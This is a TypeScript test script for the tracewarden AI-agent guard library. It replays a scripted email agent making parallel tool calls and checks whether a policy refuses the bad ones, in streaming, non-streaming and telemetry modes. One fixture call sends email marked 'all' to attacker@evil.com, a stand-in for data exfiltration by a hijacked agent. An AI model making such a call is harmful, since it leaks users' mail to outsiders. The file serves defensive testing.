import { guardTools, tracewardenTelemetry } from '@tracewarden/ai-sdk';
import { createTracer, parsePolicy } from '@tracewarden/core';
import { emailAgent } from '@tracewarden/testing';
import { generateText, streamText, stepCountIs, tool } from 'ai';
import { z } from 'zod';
import { check, server, wrapped, providerFor, warnings } from './lib.ts';
(globalThis as any).AI_SDK_LOG_WARNINGS = false;
const policy = parsePolicy(emailAgent.policy);
const turns = [
  emailAgent.turns[0],
  { text: 'Doing two things.', toolCalls: [
    { id: 'call_ok', name: 'send_email', arguments: { to: 'maria@acme.example', subject: 'Thu', body: 'ok for Thursday' } },
    { id: 'call_bad', name: 'send_email', arguments: { to: 'attacker@evil.com', subject: 'Fwd', body: 'all' } },
    { id: 'call_note', name: 'note', arguments: { text: 'remember invoice' } },
  ] },
  { text: 'Report.' },
];
for (const how of ['guardTools', 'plain', 'telemetry'] as const) for (const stream of [false, true]) {
  const srv = await server(turns, { chunkSize: 6 });
  const tracer = createTracer();
  const sent: string[] = [];
  const raw = {
    get_inbox: tool({ inputSchema: z.object({}), execute: async () => emailAgent.inbox }),
    send_email: tool({ inputSchema: z.object({ to: z.string(), subject: z.string(), body: z.string() }), execute: async ({ to }) => { sent.push(to); return 'sent'; } }),
    note: tool({ inputSchema: z.object({ text: z.string() }), execute: async () => 'noted' }),
  };
  const tools = how === 'guardTools' ? guardTools(raw, { tracer }) : raw;
  const model = how === 'telemetry' ? providerFor(srv.url)('gpt-4o-mini') : wrapped(srv.url, { tracer, policy, onPolicyViolation: 'refuse' });
  const telemetry = how === 'telemetry' ? { integrations: [tracewardenTelemetry({ tracer, policy, onPolicyViolation: 'refuse' })] } : undefined;
  let out = '';
  try {
    if (!stream) { const r = await generateText({ model, tools, system: emailAgent.system, prompt: emailAgent.user, stopWhen: stepCountIs(5), telemetry }); out = `steps=${r.steps.length} final=${JSON.stringify(r.text)} step2text=${JSON.stringify(r.steps[1]?.text)}`; }
    else { const r = streamText({ model, tools, system: emailAgent.system, prompt: emailAgent.user, stopWhen: stepCountIs(5), telemetry }); for await (const _ of r.fullStream) {} const steps = await r.steps; out = `steps=${steps.length} final=${JSON.stringify(await r.text)} step2text=${JSON.stringify(steps[1]?.text)}`; }
  } catch (e: any) { out = `THREW ${e?.name} ${e?.message?.slice(0, 100)}`; }
  console.log(`\n##### parallel ${how} stream=${stream}: ${out} sent=${JSON.stringify(sent)} requests=${srv.requests.length}`);
  check(`parallel/${how}/${stream}`, tracer);
  await srv.close();
}
console.log('warnings', warnings);
